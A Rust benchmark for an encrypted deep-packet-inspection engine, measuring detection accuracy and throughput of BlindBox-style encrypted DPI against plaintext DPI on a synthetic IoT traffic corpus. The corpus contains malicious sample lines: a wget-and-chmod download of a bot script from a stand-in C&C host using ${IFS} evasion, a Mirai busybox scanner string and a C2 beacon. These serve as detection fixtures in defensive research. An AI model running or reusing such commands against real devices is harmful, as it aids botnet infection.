//! E-M4 — encrypted DPI (§IV-B2): detection and throughput of the
//! BlindBox-style encrypted middlebox vs plaintext DPI vs no inspection,
//! over a mixed corpus of benign and C&C traffic. The claim under test:
//! encrypted DPI preserves detection exactly, at a constant-factor
//! throughput cost, without breaking end-to-end encryption.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::time::Instant;
use xlf_bench::{prf, print_table};
use xlf_core::dpi::{default_rules, match_batch_sharded, EncryptedDpi, PlaintextDpi, Rule};
use xlf_lwcrypto::ciphers::Speck128;
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::searchable::{Token, Tokenizer, TOKEN_SIZE, TOKEN_WINDOW};
use xlf_simnet::SimTime;

/// Builds the corpus: (payload, is_malicious).
fn corpus() -> Vec<(Vec<u8>, bool)> {
    let mut out = Vec::new();
    let benign = [
        "GET /weather/today?zip=44106 HTTP/1.1",
        "POST /telemetry temperature=71.2 humidity=40",
        "keepalive ping seq=291 device=thermo",
        "firmware check: version 2.1.3 ok",
        "stream chunk 0xA5A5 len=900 camera idle",
    ];
    let malicious = [
        "sh -c 'wget${IFS}http://cnc.evil/bot.sh' && chmod +x bot.sh",
        "/bin/busybox MIRAI scanner begin 10.0.0.0/24",
        "beacon POST /cdn-cgi/ HTTP keepalive c2",
    ];
    for round in 0..50 {
        for (i, b) in benign.iter().enumerate() {
            out.push((format!("{b} #{round}.{i}").into_bytes(), false));
        }
        // 1 in ~6 payloads is malicious.
        let m = malicious[round % malicious.len()];
        out.push((format!("{m} #{round}").into_bytes(), true));
    }
    out
}

/// Synthetic signature set of `n` distinct keywords (shaped like the C&C
/// markers of the default rules, but guaranteed disjoint).
fn synthetic_rules(n: usize) -> Vec<Rule> {
    (0..n)
        .map(|i| Rule {
            name: format!("sig-{i:04}"),
            keyword: format!("xlf:{i:04x}:c2-marker").into_bytes(),
        })
        .collect()
}

/// Random printable payloads of `size` bytes; every 8th payload gets one
/// rule keyword planted so the sweep also exercises the match path.
fn synthetic_payloads(rng: &mut StdRng, count: usize, size: usize, rules: &[Rule]) -> Vec<Vec<u8>> {
    (0..count)
        .map(|i| {
            let mut payload: Vec<u8> = (0..size).map(|_| rng.gen_range(0x20u8..0x7f)).collect();
            if i % 8 == 0 {
                let keyword = &rules[i % rules.len()].keyword;
                if keyword.len() <= size {
                    let at = rng.gen_range(0..=size - keyword.len());
                    payload[at..at + keyword.len()].copy_from_slice(keyword);
                }
            }
            payload
        })
        .collect()
}

/// Seconds per invocation of `f`, repeating until the sample is long
/// enough to trust.
fn measure<F: FnMut()>(mut f: F) -> f64 {
    let mut reps = 1u32;
    loop {
        let start = Instant::now();
        for _ in 0..reps {
            f();
        }
        let elapsed = start.elapsed().as_secs_f64();
        if elapsed > 0.01 || reps >= 1 << 20 {
            return elapsed / f64::from(reps);
        }
        reps *= 4;
    }
}

struct SweepCell {
    rules: usize,
    payload_bytes: usize,
    /// MB/s per engine over the same payload batch.
    naive: f64,
    automaton: f64,
    batched: f64,
    enc_naive: f64,
    enc_indexed: f64,
    enc_sharded: f64,
}

impl SweepCell {
    fn automaton_speedup(&self) -> f64 {
        self.automaton / self.naive.max(1e-9)
    }

    fn index_speedup(&self) -> f64 {
        self.enc_indexed / self.enc_naive.max(1e-9)
    }
}

/// The fast-path sweep: rule-set size × payload size, naive vs automaton
/// vs batched (plaintext) and naive vs token-index vs sharded (encrypted).
fn fastpath_sweep() -> Vec<SweepCell> {
    const PAYLOADS_PER_CELL: usize = 48;
    const SHARDS: usize = 4;
    let mut rng = StdRng::seed_from_u64(0x517f_d719);
    let mut cells = Vec::new();
    for &rule_count in &[8usize, 64, 256, 1024] {
        let rules = synthetic_rules(rule_count);
        for &size in &[256usize, 1024, 4096] {
            let payloads = synthetic_payloads(&mut rng, PAYLOADS_PER_CELL, size, &rules);
            let refs: Vec<&[u8]> = payloads.iter().map(Vec::as_slice).collect();
            let batch_bytes = (size * PAYLOADS_PER_CELL) as f64 / 1e6;
            let mbps = |secs_per_batch: f64| batch_bytes / secs_per_batch.max(1e-12);

            let plain = PlaintextDpi::new(rules.clone());
            let naive = mbps(measure(|| {
                for p in &refs {
                    std::hint::black_box(plain.inspect_naive(p));
                }
            }));
            let automaton = mbps(measure(|| {
                for p in &refs {
                    std::hint::black_box(plain.inspect(p));
                }
            }));
            let batched = mbps(measure(|| {
                std::hint::black_box(plain.inspect_batch(&refs));
            }));

            let endpoint = Tokenizer::new(b"sweep session").expect("tokenizer");
            let streams: Vec<Vec<Token>> = refs.iter().map(|p| endpoint.tokenize(p)).collect();
            let mut enc_naive_engine = EncryptedDpi::new(rules.clone()).with_naive_matching(true);
            enc_naive_engine.bind_session(&endpoint);
            let mut enc_indexed_engine = EncryptedDpi::new(rules.clone());
            enc_indexed_engine.bind_session(&endpoint);
            let enc_naive = mbps(measure(|| {
                for t in &streams {
                    std::hint::black_box(enc_naive_engine.match_stream(t));
                }
            }));
            let enc_indexed = mbps(measure(|| {
                std::hint::black_box(enc_indexed_engine.inspect_batch(
                    "dev",
                    &streams,
                    SimTime::ZERO,
                ));
            }));
            let enc_sharded = mbps(measure(|| {
                std::hint::black_box(match_batch_sharded(&enc_indexed_engine, &streams, SHARDS));
            }));

            cells.push(SweepCell {
                rules: rule_count,
                payload_bytes: size,
                naive,
                automaton,
                batched,
                enc_naive,
                enc_indexed,
                enc_sharded,
            });
        }
    }
    cells
}

/// Telemetry payload sizes `SimDevice` emits: idle, active, streaming.
const TELEMETRY_SIZES: [usize; 3] = [48, 120, 900];

/// Required speed-up of the tokenizer over the per-window PRF reference.
const TOKENIZE_REQUIRED: f64 = 5.0;

struct TokenizeCell {
    payload_bytes: usize,
    /// Nanoseconds per window: the session tokenizer, and the reference.
    kernel_ns: f64,
    reference_ns: f64,
}

impl TokenizeCell {
    fn windows_per_payload(&self) -> usize {
        self.payload_bytes + 1 - TOKEN_WINDOW
    }

    fn speedup(&self) -> f64 {
        self.reference_ns / self.kernel_ns.max(1e-9)
    }
}

/// The token definition as written: one CBC-MAC PRF call per sliding
/// window, under the token key derived from the session secret.
fn reference_tokenize(cipher: &Speck128, payload: &[u8]) -> Vec<Token> {
    payload
        .windows(TOKEN_WINDOW)
        .map(|window| {
            xlf_lwcrypto::mac::prf(cipher, "blindbox-token", window).expect("PRF over one window")
                [..TOKEN_SIZE]
                .try_into()
                .expect("token-sized prefix")
        })
        .collect()
}

/// Endpoint tokenization cost per window at each telemetry size: the
/// session tokenizer (reusing one token buffer) against the reference.
/// Panics if the two disagree on any token.
fn tokenize_sweep() -> Vec<TokenizeCell> {
    const PAYLOADS_PER_CELL: usize = 32;
    let secret = b"tokenize session";
    let tokenizer = Tokenizer::new(secret).expect("tokenizer");
    let key = derive_key(secret, "xlf-searchable-token", 16).expect("token key");
    let cipher = Speck128::new(&key).expect("16-byte token key");
    let mut rng = StdRng::seed_from_u64(0x70c3_11e5);
    TELEMETRY_SIZES
        .iter()
        .map(|&size| {
            let payloads: Vec<Vec<u8>> = (0..PAYLOADS_PER_CELL)
                .map(|_| (0..size).map(|_| rng.gen_range(0x20u8..0x7f)).collect())
                .collect();
            for p in &payloads {
                assert_eq!(
                    tokenizer.tokenize(p),
                    reference_tokenize(&cipher, p),
                    "tokenizer diverged from the reference PRF at {size} B"
                );
            }
            let mut buffer = Vec::new();
            let kernel = measure(|| {
                for p in &payloads {
                    tokenizer.tokenize_into(std::hint::black_box(p), &mut buffer);
                    std::hint::black_box(&buffer);
                }
            });
            let reference = measure(|| {
                for p in &payloads {
                    std::hint::black_box(reference_tokenize(&cipher, std::hint::black_box(p)));
                }
            });
            let windows = (PAYLOADS_PER_CELL * (size + 1 - TOKEN_WINDOW)) as f64;
            TokenizeCell {
                payload_bytes: size,
                kernel_ns: kernel * 1e9 / windows,
                reference_ns: reference * 1e9 / windows,
            }
        })
        .collect()
}

/// The slowest cell's speed-up: the acceptance value.
fn tokenize_speedup(cells: &[TokenizeCell]) -> f64 {
    cells
        .iter()
        .map(TokenizeCell::speedup)
        .fold(f64::INFINITY, f64::min)
}

/// Hand-rolled JSON trajectory point (no serde in the tree).
fn write_bench_json(
    cells: &[SweepCell],
    tokenize: &[TokenizeCell],
    path: &str,
) -> std::io::Result<()> {
    let mut body = String::from("{\n  \"experiment\": \"dpi-fastpath-sweep\",\n  \"cells\": [\n");
    for (i, c) in cells.iter().enumerate() {
        body.push_str(&format!(
            "    {{\"rules\": {}, \"payload_bytes\": {}, \
             \"naive_mbps\": {:.2}, \"automaton_mbps\": {:.2}, \"batched_mbps\": {:.2}, \
             \"enc_naive_mbps\": {:.2}, \"enc_indexed_mbps\": {:.2}, \"enc_sharded_mbps\": {:.2}, \
             \"automaton_speedup\": {:.2}, \"index_speedup\": {:.2}}}{}\n",
            c.rules,
            c.payload_bytes,
            c.naive,
            c.automaton,
            c.batched,
            c.enc_naive,
            c.enc_indexed,
            c.enc_sharded,
            c.automaton_speedup(),
            c.index_speedup(),
            if i + 1 == cells.len() { "" } else { "," }
        ));
    }
    body.push_str("  ],\n  \"tokenize\": [\n");
    for (i, c) in tokenize.iter().enumerate() {
        body.push_str(&format!(
            "    {{\"payload_bytes\": {}, \"windows_per_payload\": {}, \
             \"kernel_ns_per_window\": {:.2}, \"reference_ns_per_window\": {:.2}, \
             \"speedup\": {:.2}}}{}\n",
            c.payload_bytes,
            c.windows_per_payload(),
            c.kernel_ns,
            c.reference_ns,
            c.speedup(),
            if i + 1 == tokenize.len() { "" } else { "," }
        ));
    }
    let acceptance = cells
        .iter()
        .find(|c| c.rules == 256 && c.payload_bytes == 1024)
        .expect("acceptance cell swept");
    body.push_str(&format!(
        "  ],\n  \"acceptance\": {{\"rules\": 256, \"payload_bytes\": 1024, \
         \"automaton_speedup\": {:.2}, \"required\": 5.0, \
         \"tokenize_speedup\": {:.2}, \"tokenize_required\": {TOKENIZE_REQUIRED:.1}}}\n}}\n",
        acceptance.automaton_speedup(),
        tokenize_speedup(tokenize)
    ));
    std::fs::write(path, body)
}

fn main() {
    let corpus = corpus();
    let total_bytes: usize = corpus.iter().map(|(p, _)| p.len()).sum();

    // Plaintext DPI (the middlebox that breaks end-to-end encryption).
    let plain = PlaintextDpi::new(default_rules());
    let start = Instant::now();
    let plain_outcomes: Vec<(bool, bool)> = corpus
        .iter()
        .map(|(p, truth)| (!plain.inspect(p).is_empty(), *truth))
        .collect();
    let plain_elapsed = start.elapsed().as_secs_f64();

    // Encrypted DPI: the endpoint tokenizes; the middlebox matches tokens.
    let endpoint = Tokenizer::new(b"exp-dpi session").expect("tokenizer");
    let mut enc = EncryptedDpi::new(default_rules());
    enc.bind_session(&endpoint);
    let start = Instant::now();
    let enc_outcomes: Vec<(bool, bool)> = corpus
        .iter()
        .map(|(p, truth)| {
            let tokens = endpoint.tokenize(p);
            (
                !enc.inspect("dev", &tokens, SimTime::ZERO).is_empty(),
                *truth,
            )
        })
        .collect();
    let enc_elapsed = start.elapsed().as_secs_f64();

    let none_outcomes: Vec<(bool, bool)> =
        corpus.iter().map(|(_, truth)| (false, *truth)).collect();

    let mbps = |elapsed: f64| (total_bytes as f64 / 1e6) / elapsed.max(1e-9);
    let rows = vec![
        {
            let m = prf(&none_outcomes);
            vec![
                "no inspection".to_string(),
                format!("{:.2}", m.precision),
                format!("{:.2}", m.recall),
                format!("{:.2}", m.f1),
                "∞".to_string(),
                "end-to-end intact".to_string(),
            ]
        },
        {
            let m = prf(&plain_outcomes);
            vec![
                "plaintext DPI".to_string(),
                format!("{:.2}", m.precision),
                format!("{:.2}", m.recall),
                format!("{:.2}", m.f1),
                format!("{:.1} MB/s", mbps(plain_elapsed)),
                "BROKEN (MitM certificates)".to_string(),
            ]
        },
        {
            let m = prf(&enc_outcomes);
            vec![
                "XLF encrypted DPI".to_string(),
                format!("{:.2}", m.precision),
                format!("{:.2}", m.recall),
                format!("{:.2}", m.f1),
                format!("{:.1} MB/s", mbps(enc_elapsed)),
                "end-to-end intact".to_string(),
            ]
        },
    ];
    print_table(
        "E-M4 — Encrypted DPI vs plaintext DPI vs none (§IV-B2)",
        &[
            "Engine",
            "Precision",
            "Recall",
            "F1",
            "Throughput",
            "E2E encryption",
        ],
        &rows,
    );
    println!(
        "\nCorpus: {} payloads ({} malicious), {} rules.\n\
         Shape check: encrypted DPI matches plaintext detection exactly while\n\
         preserving end-to-end encryption, at a constant-factor slowdown\n\
         ({}× here) — the BlindBox trade the paper adopts.",
        corpus.len(),
        corpus.iter().filter(|(_, m)| *m).count(),
        default_rules().len(),
        (mbps(plain_elapsed) / mbps(enc_elapsed)).round()
    );

    // Fast-path sweep: single-pass engines vs the per-rule scans across
    // rule-set sizes and payload sizes.
    let cells = fastpath_sweep();
    let rows: Vec<Vec<String>> = cells
        .iter()
        .map(|c| {
            vec![
                format!("{}", c.rules),
                format!("{} B", c.payload_bytes),
                format!("{:.0} MB/s", c.naive),
                format!("{:.0} MB/s", c.automaton),
                format!("{:.0} MB/s", c.batched),
                format!("{:.0} MB/s", c.enc_naive),
                format!("{:.0} MB/s", c.enc_indexed),
                format!("{:.0} MB/s", c.enc_sharded),
                format!("{:.1}×", c.automaton_speedup()),
            ]
        })
        .collect();
    print_table(
        "DPI fast path — rules × payload sweep (single-pass vs per-rule)",
        &[
            "Rules",
            "Payload",
            "Plain naive",
            "Automaton",
            "AC batched",
            "Enc naive",
            "Token index",
            "Idx sharded",
            "AC speedup",
        ],
        &rows,
    );
    let acceptance = cells
        .iter()
        .find(|c| c.rules == 256 && c.payload_bytes == 1024)
        .expect("acceptance cell swept");
    println!(
        "\nAcceptance: automaton is {:.1}× the naive scan at 256 rules × 1 KiB \
         (required ≥ 5×); token index is {:.1}× the naive encrypted scan there.",
        acceptance.automaton_speedup(),
        acceptance.index_speedup()
    );

    // Endpoint tokenization: the cost the encrypted engines above exclude
    // (their token streams are built outside the timed region).
    let tokenize = tokenize_sweep();
    let rows: Vec<Vec<String>> = tokenize
        .iter()
        .map(|c| {
            vec![
                format!("{} B", c.payload_bytes),
                format!("{}", c.windows_per_payload()),
                format!("{:.1} ns", c.kernel_ns),
                format!("{:.1} ns", c.reference_ns),
                format!("{:.1}×", c.speedup()),
            ]
        })
        .collect();
    print_table(
        "Endpoint tokenization — per window, session tokenizer vs per-window PRF",
        &[
            "Payload",
            "Windows",
            "Tokenizer",
            "Reference PRF",
            "Speedup",
        ],
        &rows,
    );
    let speedup = tokenize_speedup(&tokenize);
    println!(
        "\nAcceptance: the tokenizer is at least {speedup:.1}× the per-window PRF \
         (required ≥ {TOKENIZE_REQUIRED}×)."
    );
    assert!(
        speedup >= TOKENIZE_REQUIRED,
        "tokenize speed-up {speedup:.2} is below the required {TOKENIZE_REQUIRED}"
    );
    match write_bench_json(&cells, &tokenize, "BENCH_dpi.json") {
        Ok(()) => println!("Trajectory point written to BENCH_dpi.json."),
        Err(e) => eprintln!("could not write BENCH_dpi.json: {e}"),
    }
}
